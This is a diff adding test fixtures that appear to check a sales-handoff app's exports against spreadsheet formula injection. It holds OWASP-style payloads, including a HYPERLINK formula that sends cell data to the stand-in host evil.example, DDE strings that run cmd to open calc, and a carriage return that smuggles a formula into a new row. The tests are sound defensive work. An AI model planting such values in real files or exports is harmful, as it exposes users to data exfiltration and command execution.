@@ -350,3 +350,34 @@ def _config_2027():
         path = Path(tmp) / "team.toml"
         path.write_text(RUBRIC_2027, encoding="utf-8")
         return load_config(path)
+
+
+# What a spreadsheet would run: OWASP's examples, one per character a formula may start with.
+FORMULAS = {
+    "company": '=HYPERLINK("https://evil.example/?d="&A2,"x")',
+    "contact_name": "+1 555 0100",
+    "contact_title": "-2+3+cmd|' /C calc'!A0",
+    "pain": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "notes": "\t=1+1",
+    "next_steps": "\r=1+1",
+    "website": "=1+1",
+}
+
+
+# A carriage return inside a cell: unquoted, a spreadsheet would start a row, then a formula.
+SPLIT_ROW = "fine\r=1+1"
+
+
+def build_formulas(sessions) -> int:
+    """One handoff with a formula in every text field of FORMULAS; its id."""
+    q = qualification(**FORMULAS, trigger=SPLIT_ROW)
+    with session_scope(sessions) as s:
+        return lifecycle.submit(
+            SqlHandoffRepository(s),
+            team_id="T1",
+            sdr_id="USDR1",
+            qualification=q,
+            score=score(q, load_config()),
+            submission_key="formulas",
+            now=NOW,
+        ).handoff.id
